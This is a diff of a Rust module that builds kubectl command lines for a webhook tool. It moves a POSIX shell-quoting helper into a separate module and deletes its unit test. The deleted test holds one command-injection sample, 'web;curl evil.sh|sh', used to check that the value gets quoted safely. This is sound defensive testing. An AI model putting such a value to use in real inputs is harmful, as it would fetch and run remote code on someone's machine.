@@ -2,10 +2,9 @@
 //! that comes from a peer (names, namespaces, annotation values) is shell-quoted, so pasting a
 //! line runs `kubectl` and nothing else, whatever the API server or Terraform output said.
 
-use std::borrow::Cow;
-
 use gke_aws_webhook::mutate::INJECT_LABEL;
 
+pub use crate::shell::sh;
 use crate::snapshot::Owned;
 
 /// What gives a pod a fresh admission: restart its workload, or recreate it.
@@ -88,32 +87,9 @@ pub fn annotate(namespace: &str, ksa: &str, changes: &[(String, Option<String>)]
     line
 }
 
-/// One shell word: as it is when it holds only characters no POSIX shell treats specially,
-/// else single-quoted (a `'` inside as `'\''`).
-pub fn sh(word: &str) -> Cow<'_, str> {
-    let plain = !word.is_empty()
-        && word.chars().all(|c| {
-            c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/' | ':' | '=' | '@' | '%' | '+' | ',')
-        });
-    if plain {
-        Cow::Borrowed(word)
-    } else {
-        Cow::Owned(format!("'{}'", word.replace('\'', "'\\''")))
-    }
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
-
-    #[test]
-    fn plain_words_stay_and_the_rest_is_single_quoted() {
-        assert_eq!(sh("web-7f9c"), "web-7f9c");
-        assert_eq!(sh("--from=cronjob/nightly"), "--from=cronjob/nightly");
-        assert_eq!(sh("web;curl evil.sh|sh"), "'web;curl evil.sh|sh'");
-        assert_eq!(sh("it's"), "'it'\\''s'");
-        assert_eq!(sh(""), "''");
-    }
 
     #[test]
     fn an_annotation_value_with_shell_syntax_is_one_word() {
